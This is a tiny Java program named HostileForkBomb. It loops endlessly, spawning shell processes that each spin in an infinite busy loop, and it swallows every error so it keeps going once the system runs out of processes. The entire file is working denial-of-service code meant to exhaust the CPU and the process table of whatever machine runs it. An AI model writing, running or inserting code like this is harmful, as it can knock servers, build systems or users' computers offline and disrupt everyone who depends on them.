public class HostileForkBomb {
    public static void main(String[] args) {
        while (true) {
            try {
                new ProcessBuilder("/bin/sh", "-c", "while :; do :; done").start();
            } catch (Exception | Error refused) {
                // out of processes: keep trying
            }
        }
    }
}
